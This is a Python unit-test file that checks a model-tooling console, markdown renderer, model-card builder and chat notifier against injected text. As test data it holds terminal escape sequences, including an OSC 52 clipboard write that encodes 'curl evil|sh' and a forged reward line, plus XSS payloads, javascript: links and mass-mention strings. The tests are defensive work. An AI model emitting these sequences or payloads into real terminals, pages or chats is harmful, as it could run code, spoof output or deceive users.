"""Text that somebody else wrote steers neither a terminal nor a page."""

from __future__ import annotations

import ast
import io
import json
import logging
import re
import resource
import time
import unicodedata
from types import SimpleNamespace
from typing import Any

import pytest
from jinja2.sandbox import ImmutableSandboxedEnvironment
from markdown_it import MarkdownIt
from rich.console import RenderableType
from rich.panel import Panel
from rich.table import Table
from rich.text import Text

from flows.command.app import CommandConsole, print_json, text_table
from flows.command.models.card import Origin, card
from flows.command.rollouts import _show
from flows.command.samples import Part, ShownSample
from flows.page.notify import automation
from infra.home import SOURCE_ROOT
from infra.shown_text import (
    markdown_block,
    markdown_code,
    markdown_table,
    markdown_text,
    masked,
    shown,
    shown_line,
)
from tests.parts.recorded_run import exit_code

pytestmark = pytest.mark.unit

STEERS = [
    *(chr(number) for number in (*range(0x20), *range(0x7F, 0xA0)) if chr(number) not in "\t\n"),
    *"\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
]
EVIL = (
    "ok\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;pwned\x07\x1b[2J\x1b[1;1Hreward 1.000\x9b31m"
    "\x1bP+q\x1b\\\x90x\x9c\x08\x0b\x0c\r\x7f\u202egnp.exe\u2066"
)


def test_every_control_character_is_shown_by_its_number_and_other_text_stays() -> None:
    for steering in STEERS:
        assert shown(f"a{steering}b") == shown(shown(f"a{steering}b")) != f"a{steering}b"
    assert shown("\x1b[31m \x9b \u202e") == r"\x1b[31m \x9b \u202e"
    kept = "a\tb\nc \u00e9 \u0645\u0631\u062d\u0628\u0627 \U0001f468\u200d\U0001f469 \u2713"
    assert shown(kept) == kept
    assert shown_line("a\nreward 1") == r"a\nreward 1"


def _printed(*what: RenderableType, terminal: bool, **options: Any) -> str:
    out = io.StringIO()
    console = CommandConsole(
        file=out, force_terminal=terminal, color_system=None, width=200, legacy_windows=False
    )
    for each in what:
        console.print(each, **options)
    return out.getvalue()


def _steering(text: str) -> list[str]:
    wanted = {"Cc", "Zl", "Zp"}
    return [
        c for c in text
        if c not in "\t\n" and (unicodedata.category(c) in wanted or c in STEERS)
    ]  # fmt: skip


@pytest.mark.parametrize("terminal", [True, False])
def test_nothing_that_is_printed_steers_the_terminal(terminal: bool) -> None:
    raw = Table(EVIL.replace("[", "("), title=Text(EVIL))
    raw.add_row(Text(EVIL))
    made: list[RenderableType] = [
        EVIL.replace("[", "("), Text(EVIL), Text(EVIL, "bold"), raw, Panel(Text(EVIL)),
        text_table([EVIL], [[EVIL]], EVIL),
    ]  # fmt: skip
    for each in made:
        told = _printed(each, terminal=terminal)
        assert "ok" in told
        assert _steering(told) == []
    assert _steering(_printed(EVIL, terminal=terminal, markup=False, end="", style="dim")) == []


WRITERS = {
    "flows/command/app.py: print": "JSON, in which control characters are numbers",
    "flows/command/runs_command.py: sys.stdout.write": "lines of a log, each of them `shown`",
    "flows/command/declared/runs.py: print": "the completion of a shell, which is our own text",
}


def test_all_commands_print_by_the_console_that_shows_control_characters() -> None:
    """Those that print text of models, tools or rows (rollouts, preview, chat, logs, show, report,
    runs, compare, top, admit, doctor, ...), and any that come."""
    found: set[str] = set()
    for file in (SOURCE_ROOT / "flows").rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text())):
            if isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                if re.fullmatch(
                    r"print|(rich\.)?Console|rich\.print|.*std(out|err)\.write\w*", called
                ):
                    found.add(f"{file.relative_to(SOURCE_ROOT)}: {called}")
    assert found == WRITERS.keys()


def _sample() -> ShownSample:
    return ShownSample(
        "step 1", 1, f"d{EVIL}", f"p{EVIL}", 0, "completed", f"why\nreward 9{EVIL}", 0.0,
        {EVIL: 1.0}, EVIL, (Part("model", EVIL), Part("environment", EVIL)), (1, 2), (0, 1),
    )  # fmt: skip


@pytest.mark.parametrize("terminal", [True, False])
def test_a_sample_shows_what_the_model_wrote_and_no_more(terminal: bool) -> None:
    out = io.StringIO()
    _show(_sample(), CommandConsole(file=out, force_terminal=terminal, color_system=None))
    told = out.getvalue()
    assert _steering(told) == []
    assert r"\x1b]52;c;" in told.replace("\n", "")
    assert not any(line.startswith("reward 9") for line in told.splitlines())


def test_a_fault_of_ours_and_its_log_are_text_and_dump_no_memory(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: object, **__: object) -> None:
        logging.getLogger("some.library").warning("row %s", EVIL)
        raise RuntimeError(EVIL)

    monkeypatch.setattr("flows.command.main.app", broken)
    shown_by = logging.StreamHandler()
    logging.getLogger("some.library").addHandler(shown_by)
    stock = logging.getLogRecordFactory()
    try:
        logging.setLogRecordFactory(lambda *args, **more: logging.LogRecord(*args, **more))
        assert exit_code([]) == 1
    finally:
        logging.getLogger("some.library").removeHandler(shown_by)
        logging.setLogRecordFactory(stock)
    told = capsys.readouterr()
    assert _steering(told.out + told.err) == []
    assert r"row ok\x1b]52;c;" in told.err
    assert r"RuntimeError: ok\x1b]52;c;" in told.err
    assert resource.getrlimit(resource.RLIMIT_CORE)[0] <= 1


def test_json_is_of_plain_characters(capsys: pytest.CaptureFixture[str]) -> None:
    print_json({EVIL: [EVIL]})
    told = capsys.readouterr().out
    assert _steering(told) == []
    assert json.loads(told) == {EVIL: [EVIL]}


def test_markdown_of_a_name_holds_no_link_no_html_and_ends_no_cell() -> None:
    text = markdown_text("<img src=x onerror=alert(1)>[x](javascript:alert(1)) a|b\n# c `d` **e**")
    for piece in ("\\<img", "\\[x\\]\\(javascript", "a\\|b \\# c", "\\`d\\`", "\\*\\*e"):
        assert piece in text
    assert "\n" not in text
    table = markdown_table(["a|b"], [["**c**\n<b>"]])
    assert table.splitlines()[::2] == [r"| a\|b |", r"| \*\*c\*\* \<b\> |"]


_FORGED = (
    "```\n# done\n<img src=x onerror=alert(1)>",
    "````",
    "`",
    "a`b``c",
    "",
    "x\x1b[2J\r\n```",
)


def _html(markdown: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)


@pytest.mark.parametrize("text", _FORGED)
def test_a_block_and_a_piece_of_code_end_where_we_end_them(text: str) -> None:
    block = _html(f"before\n\n{markdown_block(text, 'yaml')}\n\nafter")
    assert block.startswith("<p>before</p>\n<pre><code")
    assert block.endswith("</code></pre>\n<p>after</p>\n")
    assert "<img" not in block
    assert "<h1" not in block
    if text:
        line = _html(f"before {markdown_code(text)} after")
        assert re.fullmatch(r"<p>before <code>[^<]*</code> after</p>\n", line)


def test_a_card_holds_no_markup_of_a_model_that_came_from_elsewhere() -> None:
    evil = "x`\n\n# Free\n\n<script>alert(1)</script>[a](http://evil.example)"
    origin = Origin(
        run=evil, stage=evil, recipe={"name": f"```\n{evil}"}, scored_as=evil,
        scores={f"|{evil}": 0.5}, greedy={}, intervals={},
    )  # fmt: skip
    made = card(evil, {"architectures": [evil], "model_type": evil}, evil, [], origin)
    page = _html(made.split("---\n", 2)[2])
    assert "<script" not in page
    assert "<a " not in page
    assert re.findall("<h[12]>(.*)</h[12]>", page)[1:] == [
        "How to load it", "Scores", "Licence", "Lineage", "Recipe",
    ]  # fmt: skip
    assert card("m", {"architectures": "Qwen3", "model_type": "qwen3"}, "mit", [], None)


def test_a_long_text_is_searched_for_secrets_in_linear_time() -> None:
    """An error may quote any text."""
    began = time.process_time()
    for text in ("a." * 200_000, "?a-" + "a-" * 200_000, "a://b:" * 70_000):
        assert masked(text) == text
    assert time.process_time() - began < 5


def test_a_failure_that_quotes_a_model_calls_nobody_in_a_chat() -> None:
    said = '<!channel> @channel @everyone <http://evil.example|open> & "}'
    state = SimpleNamespace(name="Failed", message=said)
    environment = ImmutableSandboxedEnvironment()
    environment.filters["ui_url"] = lambda _: "http://127.0.0.1:4200/runs?a=1"
    payload = automation("block")["actions"][0]["payload"]
    told = json.loads(
        environment.from_string(payload).render(flow_run=SimpleNamespace(name="n", state=state))
    )
    assert told["allowed_mentions"] == {"parse": []}
    assert told["content"].startswith(f"Tributary: n: Failed. {said}")
    assert "<" not in told["text"]
    assert not re.search(r"@\w", told["text"])
